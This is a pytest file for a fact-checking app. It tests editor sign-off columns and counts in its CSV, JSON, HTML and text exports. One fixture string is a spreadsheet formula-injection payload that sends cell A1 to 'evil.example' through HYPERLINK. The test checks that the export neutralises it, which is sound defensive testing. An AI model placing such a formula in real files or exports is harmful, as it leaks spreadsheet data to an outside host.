"""The editor's sign-off in the CSV exports: per sentence in `csv` (as the JSON export has
it), and counted per article in `summary-csv`; appended, so a spreadsheet reading the old
columns by position reads the same cells."""

from __future__ import annotations

import csv
import io

import pytest

from factcheck_app.domain.sign_off import SignOffState
from factcheck_app.services.desk import Desk
from factcheck_app.services.reports.csv_report import COLUMNS, render_csv
from factcheck_app.services.reports.model import load_article_report
from factcheck_app.services.reports.summary import (
    SUMMARY_COLUMNS,
    load_reports,
    render_summary_csv,
    render_summary_html,
    render_summary_text,
    summarize,
    summary_data,
)
from tests.sample_review import apply_sample_review

# The columns every export had before sign-off came to the CSV, in their places.
BEFORE = [
    "article_id",
    "article_title",
    "number",
    "sentence_id",
    "paragraph",
    "start",
    "end",
    "text",
    "tag",
    "verdict",
    "rating",
    "rating_value",
    "claimant",
    "explanation",
    "status",
    "denies_number",
    "reviewer",
    "updated_at",
    "source_count",
    "source_urls",
    "source_titles",
    "source_publishers",
    "source_accessed",
    "source_stances",
    "source_excerpts",
    "article_language",
]
SIGN_OFF = ["sign_off", "sign_off_editor", "sign_off_checker", "sign_off_at", "sign_off_note"]
SUMMARY_BEFORE = [
    "article_id",
    "title",
    "outlet",
    "published",
    "sentences",
    "reviewed",
    "percent_reviewed",
    "claims",
    "denials",
    "facts",
    "true",
    "mostly_true",
    "mixed",
    "mostly_false",
    "false",
    "unverifiable",
    "no_verdict",
]
# An editor's note is typed text: in a German Excel (`;` separates cells) the part after
# the `;` was a formula of its own.
NOTE = '=HYPERLINK("https://evil.example/?"&A1)\nWhich year?;=2+5'


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.encode().decode("utf-8-sig"), newline="")))


@pytest.fixture
def signed(seeded_desk: Desk) -> tuple[Desk, list[int]]:
    """The sample review, its first two verdicts awaiting sign-off approved and returned
    by an editor; the numbers (1-based) of those two and of one still awaiting."""
    apply_sample_review(seeded_desk, 1)
    awaiting = [
        number
        for number, row in enumerate(seeded_desk.reviews.sentence_rows(1), start=1)
        if seeded_desk.sign_offs.state(row.sentence.id) is SignOffState.AWAITING
    ]
    assert len(awaiting) >= 3
    ids = [row.sentence.id for row in seeded_desk.reviews.sentence_rows(1)]
    seeded_desk.edits.actor = "Zoë Ngata"
    seeded_desk.sign_offs.approve(ids[awaiting[0] - 1])
    seeded_desk.sign_offs.send_back(ids[awaiting[1] - 1], NOTE)
    return seeded_desk, awaiting[:3]


def test_csv_ends_with_the_sign_off_and_keeps_every_column_in_its_place(
    signed: tuple[Desk, list[int]],
) -> None:
    desk, (approved, returned, waiting) = signed
    report = load_article_report(desk, 1)
    text = render_csv(report)
    header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert header == list(COLUMNS)
    # Appended: the columns before keep their places (more came after it since).
    assert header[: len(BEFORE) + len(SIGN_OFF)] == [*BEFORE, *SIGN_OFF]
    by_number = {int(row["number"]): row for row in rows(text)}
    ok = by_number[approved]
    sign_off = report.sentences[approved - 1].sign_off
    assert sign_off is not None
    assert [ok[c] for c in SIGN_OFF] == [
        "approved",
        "Zoë Ngata",
        sign_off.checker,
        sign_off.at,
        "",
    ]
    assert sign_off.checker and sign_off.at.startswith("20")
    back = by_number[returned]
    assert (back["sign_off"], back["sign_off_editor"]) == ("returned", "Zoë Ngata")
    # Formula starts defused, at the start and after a separator inside the cell.
    assert back["sign_off_note"] == "'" + NOTE.replace(";=", ";'=")
    assert by_number[waiting]["sign_off"] == "awaiting"
    assert [by_number[waiting][c] for c in SIGN_OFF[1:]] == ["", "", "", ""]
    untagged = [row for row in by_number.values() if not row["verdict"]]
    assert untagged and all(row["sign_off"] == "" for row in untagged)


def test_summary_csv_counts_approved_returned_and_awaiting_per_article(
    signed: tuple[Desk, list[int]],
) -> None:
    desk, _ = signed
    desk.importer.import_text("A second article. Nobody has reviewed it yet.")
    text = render_summary_csv(summarize(load_reports(desk)))
    header = next(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    added = ["approved", "returned", "awaiting_sign_off"]
    assert header == list(SUMMARY_COLUMNS)
    assert header[: len(SUMMARY_BEFORE) + len(added)] == [*SUMMARY_BEFORE, *added]
    first, second = rows(text)
    states = [desk.sign_offs.state(r.sentence.id) for r in desk.reviews.sentence_rows(1)]
    assert [int(first[c]) for c in added] == [
        states.count(SignOffState.APPROVED),
        states.count(SignOffState.RETURNED),
        states.count(SignOffState.AWAITING),
    ]
    assert [int(first[c]) for c in added][:2] == [1, 1]
    assert [second[c] for c in added] == ["0", "0", "0"]


def test_stats_json_and_summary_html_count_sign_offs_as_the_summary_csv(
    signed: tuple[Desk, list[int]],
) -> None:
    """`summary-csv` counted each article's approved, returned and awaiting sentences;
    `stats --json` and `summary-html` (the editor's overview) did not."""
    desk, _ = signed
    desk.importer.import_text("A second article. Nobody has reviewed it yet.")
    summary = summarize(load_reports(desk))
    added = ["approved", "returned", "awaiting_sign_off"]
    csv_rows = rows(render_summary_csv(summary))
    data = summary_data(summary)  # what `stats --json` prints
    per_article = [article["sign_off"] for article in data["per_article"]]
    assert per_article == [{c: int(row[c]) for c in added} for row in csv_rows]
    assert data["sign_off"] == {c: sum(int(row[c]) for row in csv_rows) for c in added}
    first = per_article[0]
    assert (first["approved"], first["returned"]) == (1, 1) and first["awaiting_sign_off"] > 0
    html = render_summary_html(summary)
    words = f"1 approved · 1 returned · {first['awaiting_sign_off']} awaiting sign-off"
    assert f'<p class="note">Sign-off: {words}</p>' in html  # the workspace's
    assert html.count(words) == 2  # and the first article's; the second has none


def test_plain_stats_has_the_sign_off_line_in_the_summary_html_words(
    signed: tuple[Desk, list[int]],
) -> None:
    """`stats --json` and `summary-html` counted the sign-off; the plain `stats` an
    editor reads in a terminal did not."""
    desk, _ = signed
    summary = summarize(load_reports(desk))
    awaiting = summary_data(summary)["sign_off"]["awaiting_sign_off"]
    words = f"1 approved · 1 returned · {awaiting} awaiting sign-off"
    lines = render_summary_text(summary).splitlines()
    # With the figures at the top, before the list of articles.
    assert lines[4] == f"Sign-off: {words}"
    assert f'<p class="note">Sign-off: {words}</p>' in render_summary_html(summary)


def test_nothing_to_sign_off_says_nothing_about_sign_off(seeded_desk: Desk) -> None:
    """No verdict done yet: neither summary has a sign-off line to skip over ("Sign-off:
    nothing to sign off yet" said nothing)."""
    summary = summarize(load_reports(seeded_desk))
    assert summary_data(summary)["sign_off"] == {
        "approved": 0,
        "returned": 0,
        "awaiting_sign_off": 0,
    }
    assert "Sign-off" not in render_summary_text(summary)
    html = render_summary_html(summary)
    assert "Sign-off" not in html and "sign off" not in html
